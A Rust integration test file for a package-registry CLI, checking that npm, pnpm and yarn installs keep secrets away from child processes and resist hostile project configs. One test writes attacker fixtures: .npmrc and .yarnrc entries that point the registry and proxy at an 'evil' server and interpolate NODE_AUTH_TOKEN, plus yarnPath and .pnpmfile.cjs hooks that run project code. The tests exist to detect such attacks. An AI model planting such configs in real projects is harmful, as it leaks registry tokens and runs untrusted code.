//! `install`, `token` and `revoke`, through the real package managers.

use std::{fs, path::PathBuf};

use crate::{
    clients::{path_with, tool},
    harness::{CLI, World, files, unique},
};

/// The tools, by the name that `--with` takes.
const MANAGERS: &[(&str, &str, &str)] = &[
    ("npm-11", "npm", "npm"),
    ("pnpm-10", "pnpm", "pnpm"),
    ("pnpm-11", "pnpm", "pnpm"),
    ("yarn-1", "yarn", "yarn"),
    ("yarn-4", "berry", "yarn"),
];

/// Puts a program of the same name before the real one, which writes down what it was given.
fn witness(world: &World, tool_name: &str, program: &str) -> PathBuf {
    let folder = format!("witness-{tool_name}");
    let log = world.path("work/children.log");
    let real = tool(tool_name).join(program);
    let script = format!(
        "#!/bin/sh\n{{ echo \"== $0 $*\"; env; }} >> '{}'\nexec '{}' \"$@\"\n",
        log.display(),
        real.display()
    );
    let path = world.write(&format!("{folder}/{program}"), &script);
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("mode");
    path.parent().expect("folder").to_owned()
}

#[test]
fn each_package_manager_installs_and_sees_no_secret() {
    let world = World::new();
    world.cli_in(&world.package("@acme/core", "1.0.0"), &["publish"]).succeeded();
    for (tool_name, with, program) in MANAGERS {
        let folder = format!("app-{tool_name}");
        world.write(
            &format!("{folder}/package.json"),
            "{\"name\": \"app\", \"version\": \"1.0.0\", \"private\": true}",
        );
        world.write(&format!("{folder}/.yarnrc.yml"), "nodeLinker: node-modules\n");
        if *with == "berry" {
            world.write(&format!("{folder}/yarn.lock"), "");
        }
        let folder = world.path("work").join(folder);
        let mut command = world.github("release", CLI, &["install", "@acme/core", "--with", with]);
        let path = path_with(&[witness(&world, tool_name, program), tool("npm-11")]);
        command.env("PATH", path).current_dir(&folder);
        // What a job may hold, and no child needs.
        for name in ["NODE_AUTH_TOKEN", "NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"] {
            command.env(name, "hunter2hunter2");
        }
        let screen = world.run(command);
        assert_eq!(screen.code, 0, "{tool_name}\n{screen}");
        let mut node = world.bare("node", &["--print", "require('@acme/core').addSecretly(1, 0)"]);
        node.current_dir(&folder);
        assert_eq!(world.run(node).stdout, "42\n", "{tool_name}");
        let lock = ["package-lock.json", "pnpm-lock.yaml", "yarn.lock"].map(|name| folder.join(name));
        for file in lock.iter().filter(|file| file.exists()) {
            assert!(!fs::read_to_string(file).expect("lock").contains("_authToken"), "{}", file.display());
        }
    }
    let seen = fs::read_to_string(world.path("work/children.log")).expect("children");
    assert!(seen.matches("== ").count() >= MANAGERS.len() * 2, "the witnesses were there");
    for secret in ["hunter2", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_URL"] {
        assert!(!seen.contains(secret), "a child saw {secret}");
    }
    let left: Vec<_> = files(&world.path("tmp"))
        .into_iter()
        .filter(|path| path.to_string_lossy().contains("npmrc"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn npm_and_pnpm_publish_exactly_our_tarball() {
    for (tool_name, with) in [("npm-11", "npm"), ("pnpm-10", "pnpm"), ("pnpm-11", "pnpm")] {
        let world = World::new();
        let folder = world.package("@acme/core", "1.0.0");
        let mut command = world.github("release", CLI, &["publish", "--with", with]);
        let path = path_with(&[witness(&world, tool_name, with), tool("npm-11")]);
        command.env("PATH", path).current_dir(&folder);
        let screen = world.run(command);
        assert_eq!(screen.code, 0, "{tool_name}\n{screen}");
        let manifest = folder.join("protected-build/acme-core-1.0.0/evidence/build-manifest.json");
        let manifest: serde_json::Value =
            serde_json::from_slice(&fs::read(manifest).expect("read")).expect("JSON");
        let token = world.npm_token("release", "@acme/core", "install");
        let stored = crate::race::stored(&world, &token, "@acme/core", "1.0.0");
        assert_eq!(manifest["artifact"]["integrity"], stored.0.as_str(), "{tool_name}");
        assert_eq!(stored.0, stored.1);
    }
}

#[test]
fn a_hostile_project_gets_neither_the_token_nor_the_package() {
    let evil = crate::proxy::Proxy::start();
    let evil_url = format!("http://{}/", evil.address);
    for (tool_name, with, program) in MANAGERS {
        for (file, content) in [
            (".npmrc", format!("@acme:registry={evil_url}\nregistry={evil_url}\n")),
            (
                ".npmrc",
                format!(
                    "//{}/:_authToken=${{NODE_AUTH_TOKEN}}\nproxy={evil_url}\nhttps-proxy={evil_url}\n",
                    evil.address
                ),
            ),
            (".yarnrc", format!("registry \"{evil_url}\"\n\"@acme:registry\" \"{evil_url}\"\n")),
            (
                ".yarnrc.yml",
                format!(
                    "npmScopes:\n  acme:\n    npmRegistryServer: \"{evil_url}\"\nunsafeHttpWhitelist: [\"*\"]\n"
                ),
            ),
            (".yarnrc.yml", "yarnPath: ./evil.cjs\n".to_owned()),
            (".pnpmfile.cjs", "require('fs').writeFileSync('pwned', '1'); module.exports = {};\n".to_owned()),
        ] {
            let world = World::new();
            world.cli_in(&world.package("@acme/core", "1.0.0"), &["publish"]).succeeded();
            let name = format!("victim-{}", unique());
            world.write(
                &format!("{name}/package.json"),
                "{\"name\": \"app\", \"version\": \"1.0.0\", \"private\": true}",
            );
            world.write(&format!("{name}/{file}"), &content);
            world.write(&format!("{name}/evil.cjs"), "require('fs').writeFileSync('pwned', '1')\n");
            if *with == "berry" {
                world.write(&format!("{name}/yarn.lock"), "");
            }
            let folder = world.path("work").join(&name);
            let mut command = world.github("release", CLI, &["install", "@acme/core", "--with", with]);
            let path = path_with(&[witness(&world, tool_name, program), tool("npm-11")]);
            command.env("PATH", path).env("NODE_AUTH_TOKEN", "hunter2hunter2").current_dir(&folder);
            let screen = world.run(command);
            // Refused, or installed from our registry: never from there, and with nothing sent there.
            assert!([0, 4].contains(&screen.code), "{tool_name} {file}\n{screen}");
            assert!(!folder.join("pwned").exists(), "{tool_name} {file}: the project's code ran\n{screen}");
            let sent = evil.exchanges();
            let sent: Vec<_> =
                sent.iter().map(|exchange| String::from_utf8_lossy(&exchange.request)).collect();
            let told = sent.iter().any(|request| request.contains("eyJ") || request.contains("hunter2"));
            assert!(!told, "{tool_name} {file}: a token was sent elsewhere: {sent:?}");
            assert!(!sent.iter().any(|request| request.contains("acme")), "{tool_name} {file}: {sent:?}");
        }
    }
}

#[test]
fn a_token_for_other_tools_stands_in_a_private_file_and_can_be_revoked() {
    let world = World::new();
    world.cli_in(&world.package("@acme/core", "1.0.0"), &["publish"]).succeeded();
    let file = world.path("work/private.npmrc");
    let arguments = ["token", "@acme/core", "--npmrc", "private.npmrc"];
    let screen = world.cli(&arguments);
    assert!(screen.succeeded().stdout.ends_with("private.npmrc\n"), "{screen}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(fs::metadata(&file).expect("file").permissions().mode() & 0o777, 0o600);
    let userconfig = format!("--userconfig={}", file.display());
    let view = |world: &World| {
        let mut npm = world.bare("npm", &["view", "@acme/core", "version", &userconfig]);
        npm.env("PATH", path_with(&[tool("npm-11")]));
        world.run(npm)
    };
    assert_eq!(view(&world).succeeded().stdout, "1.0.0\n");
    world.cli(&arguments).failed(2, &["exists"]);
    let copy = fs::read_to_string(&file).expect("file");
    world.cli(&["revoke", "--npmrc", "private.npmrc"]).succeeded();
    assert!(!file.exists());
    fs::write(&file, copy).expect("write");
    let screen = view(&world);
    assert_ne!(screen.code, 0, "a revoked token is refused\n{screen}");
    fs::remove_file(&file).expect("remove");
    world.cli(&["revoke", "--npmrc", "private.npmrc"]).failed(2, &["private.npmrc"]);
}

#[test]
fn wrong_input_is_told_before_anything_is_asked() {
    let world = World::new();
    world.cli(&["install"]).failed(2, &["no package is named"]);
    let mut command = world.github("release", CLI, &["install", "@acme/core"]);
    command.env("PROTECTED_REGISTRY_DRY_RUN", "true");
    world.run(command).failed(2, &["has no dry run"]);
    world.cli(&["install", "@acme/core@file:../x"]).failed(2, &["file:../x"]);
    world.cli(&["install", "@acme/core", "--directory", "nowhere"]).failed(2, &["nowhere"]);
    world.cli(&["install", "--", "-g"]).failed(2, &["-g"]);
    let mut command = world.github("release", CLI, &["install", "@acme/core", "--with", "pnpm"]);
    command.env("PATH", "/nowhere");
    world.run(command).failed(1, &["pnpm"]);
    assert_eq!(world.count("exchange", "allow", None), 0);
}

#[test]
fn doctor_checks_everything_and_publishes_nothing() {
    let world = World::new();
    let folder = world.package("@acme/core", "1.0.0");
    let screen = world.cli_in(&folder, &["doctor"]);
    screen.succeeded();
    for line in [
        "ok       package",
        "ok       audience",
        "ok       identity",
        "ok       may publish",
        "ok       may install",
    ] {
        assert!(screen.stderr.contains(line), "{line}\n{screen}");
    }
    let mut command = world.github("release", CLI, &["doctor", "--audience", "https://elsewhere.example"]);
    command.env("NPM_TOKEN", "hunter2hunter2").current_dir(&folder);
    let screen = world.run(command);
    assert_ne!(screen.code, 0);
    assert!(screen.stderr.contains("FAILED   audience"), "{screen}");
    assert!(screen.stderr.contains("`NPM_TOKEN` is set"), "{screen}");
    assert!(!screen.stderr.contains("hunter2"), "{screen}");
    assert_eq!(world.count("registry.publish", "allow", None), 0);
}
